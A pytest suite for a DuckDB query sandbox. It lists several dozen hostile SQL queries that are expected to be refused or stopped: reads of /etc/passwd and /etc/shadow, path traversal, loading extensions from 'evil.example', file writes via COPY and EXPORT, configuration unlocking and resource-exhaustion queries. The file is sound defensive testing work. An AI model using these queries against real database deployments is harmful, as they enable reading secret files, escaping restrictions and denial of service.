"""The escape suite: hostile queries, each refused or stopped with a clear error.

Every query goes the way a job goes: read by ``SqlReader`` (refused at once, at submission), or
run by the ``Executor`` in a locked-down DuckDB in a child process (stopped by the engine, the
time limit or the memory limit). A second suite sends the file, network and configuration
attacks straight to the engine, skipping the reader, to show that the lock holds on its own.
After each, the same executor answers an ordinary query: nothing a query did outlives it.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from accord.sandbox.engine import EngineLimits
from accord.sandbox.executor import Executor, QueryFailed, QueryTask, ResultTable
from accord.sandbox.sql import QueryRefused, RowLevelPlan, reader
from accord.sandbox.tables import TableSource
from tests.sandbox.conftest import people_csv, visits_parquet

SECRET = "TOP-SECRET-7f3a"
REFUSED = "refused"


@dataclass(frozen=True)
class Sandbox:
    folder: Path
    secret: Path
    tables: tuple[TableSource, ...]
    executor: Executor

    def run(self, sql: str) -> ResultTable:
        task = QueryTask(sql, self.tables, str(self.folder / "spill"), 200, 50)
        return self.executor.run(task)

    def attempt(self, sql: str) -> str:
        """What happens to ``sql`` as a job: "refused", or the code it fails with."""
        try:
            plan = reader().plan(sql, [t.table for t in self.tables])
        except QueryRefused:
            return REFUSED
        query = plan.sql if not isinstance(plan, RowLevelPlan) else sql
        try:
            result = self.run(query)
        except QueryFailed as failed:
            return failed.code
        assert SECRET not in repr(result.rows)
        return "ran"


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sandbox]:
    folder = tmp_path_factory.mktemp("escapes")
    (folder / "people.csv").write_bytes(people_csv())
    (folder / "visits.parquet").write_bytes(visits_parquet())
    secret = folder / "secret.csv"
    secret.write_text(f"password\n{SECRET}\n")
    (folder / "spill").mkdir()
    tables = (
        TableSource("people", str(folder / "people.csv"), "csv", None),
        TableSource("visits", str(folder / "visits.parquet"), "parquet", None),
    )
    executor = Executor(
        limits=EngineLimits(1, "192MB", 64), time_limit=1.5, memory_limit_bytes=512 * 2**20
    )
    yield Sandbox(folder, secret, tables, executor)
    executor.close()


def _hostile(secret: str, people: str) -> list[tuple[str, str, str]]:
    """(what it tries, the SQL, what must happen)."""
    return [
        # --- reading other files, by every door ---
        ("read_csv of /etc/passwd", "SELECT * FROM read_csv('/etc/passwd')", REFUSED),
        ("read_text of /etc/passwd", "SELECT * FROM read_text('/etc/passwd')", REFUSED),
        ("read_blob of /etc/shadow", "SELECT * FROM read_blob('/etc/shadow')", REFUSED),
        ("read_json of /etc/hosts", "SELECT * FROM read_json('/etc/hosts')", REFUSED),
        ("read_parquet of another file", f"SELECT * FROM read_parquet('{secret}')", REFUSED),
        ("a file as a table name", "FROM '/etc/passwd'", REFUSED),
        ("another file as a table name", f"SELECT * FROM '{secret}'", REFUSED),
        ("the granted file by path", f"SELECT count(*) FROM '{people}'", REFUSED),
        ("path traversal", f"SELECT * FROM read_csv('{people}/../secret.csv')", REFUSED),
        ("glob of the file system", "SELECT * FROM glob('/*')", REFUSED),
        ("sniff_csv", "SELECT * FROM sniff_csv('/etc/passwd')", REFUSED),
        ("parquet_metadata", f"SELECT * FROM parquet_metadata('{secret}')", REFUSED),
        ("query() running a string", "SELECT * FROM query('SELECT 1')", REFUSED),
        ("query_table()", "SELECT * FROM query_table('people')", REFUSED),
        # --- the network and httpfs ---
        ("a URL", "SELECT * FROM read_csv('https://example.org/x.csv')", REFUSED),
        ("an S3 object", "SELECT * FROM 's3://bucket/data.parquet'", REFUSED),
        ("install httpfs", "INSTALL httpfs", REFUSED),
        ("load httpfs", "LOAD httpfs", REFUSED),
        ("load a local extension", "LOAD '/tmp/evil.duckdb_extension'", REFUSED),
        ("force install from a URL", "FORCE INSTALL httpfs FROM 'http://evil.example'", REFUSED),
        # --- writing ---
        ("COPY … TO a file", "COPY people TO '/tmp/out.csv'", REFUSED),
        (
            "COPY a query TO parquet",
            "COPY (SELECT 1) TO '/tmp/o.parquet' (FORMAT parquet)",
            REFUSED,
        ),
        ("COPY … FROM a file", "COPY people FROM '/etc/passwd'", REFUSED),
        ("EXPORT DATABASE", "EXPORT DATABASE '/tmp/dump'", REFUSED),
        ("IMPORT DATABASE", "IMPORT DATABASE '/tmp/dump'", REFUSED),
        ("ATTACH a database file", "ATTACH '/tmp/x.db' AS x", REFUSED),
        ("ATTACH in memory", "ATTACH ':memory:' AS scratch", REFUSED),
        ("CREATE TABLE", "CREATE TABLE copy AS SELECT * FROM people", REFUSED),
        (
            "CREATE MACRO",
            "CREATE MACRO leak() AS TABLE SELECT * FROM read_text('/etc/passwd')",
            REFUSED,
        ),
        ("DROP the view", "DROP VIEW people", REFUSED),
        ("INSERT", "INSERT INTO people SELECT * FROM people", REFUSED),
        ("CREATE SECRET", "CREATE SECRET (TYPE s3, KEY_ID 'k', SECRET 's')", REFUSED),
        # --- changing settings ---
        ("enable external access", "SET enable_external_access = true", REFUSED),
        ("raise the memory limit", "SET memory_limit = '100GB'", REFUSED),
        ("widen the allowed paths", "SET allowed_paths = ['/']", REFUSED),
        ("unlock the configuration", "RESET lock_configuration", REFUSED),
        ("PRAGMA threads", "PRAGMA threads = 64", REFUSED),
        ("PRAGMA database_list", "PRAGMA database_list", REFUSED),
        ("CALL a pragma", "CALL pragma_version()", REFUSED),
        ("USE another catalog", "USE memory", REFUSED),
        ("CHECKPOINT", "CHECKPOINT", REFUSED),
        # --- looking around ---
        ("duckdb_settings()", "SELECT * FROM duckdb_settings()", REFUSED),
        ("duckdb_views() (the file paths)", "SELECT sql FROM duckdb_views()", REFUSED),
        ("information_schema", "SELECT * FROM information_schema.tables", REFUSED),
        ("sqlite_master", "SELECT * FROM sqlite_master", REFUSED),
        ("SUMMARIZE (min and max of every column)", "SUMMARIZE people", REFUSED),
        ("EXPLAIN ANALYZE", "EXPLAIN ANALYZE SELECT count(*) FROM people", REFUSED),
        ("two statements", "SELECT 1; COPY people TO '/tmp/x.csv'", REFUSED),
        # --- exhausting the node ---
        (
            "a huge cross join",
            "SELECT count(*) FROM people a, people b, people c, people d, people e",
            "sandbox.time-limit",
        ),
        (
            "a recursive CTE that never ends",
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) "
            "SELECT count(*) FROM r",
            "sandbox.time-limit",
        ),
        (
            "a recursive CTE that doubles a string",
            "WITH RECURSIVE r(s) AS (SELECT 'x' UNION ALL SELECT s || s FROM r) "
            "SELECT max(length(s)) FROM r",
            "sandbox.memory-limit",
        ),
        (
            "a long computation (DuckDB has no sleep)",
            "SELECT count(*) FROM people a, people b, people c, people d "
            "WHERE md5(a.id::VARCHAR || b.id || c.id || d.id) LIKE '000%'",
            "sandbox.time-limit",
        ),
        (
            "a list of two billion numbers",
            "SELECT sum(len(range(0, 2000000000)))",
            "sandbox.memory-limit",
        ),
        (
            "a flood of rows",
            "SELECT a.id FROM people a, people b",
            "sandbox.too-many-rows",
        ),
    ]


CASES = _hostile("/tmp/secret.csv", "/tmp/people.csv")


@pytest.mark.parametrize(
    ("what", "index"),
    [(what, i) for i, (what, _, _) in enumerate(CASES)],
    ids=[c[0] for c in CASES],
)
def test_hostile_query_is_refused_or_stopped(sandbox: Sandbox, what: str, index: int) -> None:
    _, sql, expected = _hostile(str(sandbox.secret), sandbox.tables[0].location)[index]
    assert sandbox.attempt(sql) == expected, what


def test_the_suite_is_large_enough() -> None:
    assert len(CASES) >= 40


ENGINE_ONLY = [
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_text('/etc/passwd')",
    "SELECT * FROM read_blob('/etc/shadow')",
    "SELECT * FROM '{secret}'",
    "SELECT * FROM read_csv('{people}/../secret.csv')",
    "SELECT * FROM glob('/*')",
    "SELECT * FROM read_csv('https://example.org/x.csv')",
    "COPY people TO '{folder}/out.csv'",
    "COPY (SELECT 1) TO '{folder}/out.parquet' (FORMAT parquet)",
    "EXPORT DATABASE '{folder}/dump'",
    "ATTACH '{folder}/x.db' AS x",
    "INSTALL httpfs",
    "LOAD httpfs",
    "SET enable_external_access = true",
    "SET memory_limit = '100GB'",
    "SET allowed_paths = ['/']",
    "RESET lock_configuration",
    "PRAGMA threads = 64",
]


@pytest.mark.parametrize("template", ENGINE_ONLY)
def test_the_engine_lock_holds_without_the_reader(sandbox: Sandbox, template: str) -> None:
    sql = template.format(
        secret=sandbox.secret, people=sandbox.tables[0].location, folder=sandbox.folder
    )
    with pytest.raises(QueryFailed) as failed:
        sandbox.run(sql)
    assert failed.value.code in {"sandbox.permission-denied", "sandbox.query-error"}, sql
    assert SECRET not in failed.value.message
    assert not (sandbox.folder / "out.csv").exists()
    assert not (sandbox.folder / "x.db").exists()


def test_after_every_attack_an_ordinary_query_runs(sandbox: Sandbox) -> None:
    result = sandbox.run("SELECT region, count(*) FROM people GROUP BY 1 ORDER BY 1")
    assert result.rows == [("east", 25), ("island", 3), ("north", 40), ("south", 30), ("west", 20)]
    joined = sandbox.run("SELECT count(*) FROM people p JOIN visits v ON v.person_id = p.id")
    assert joined.rows == [(400,)]
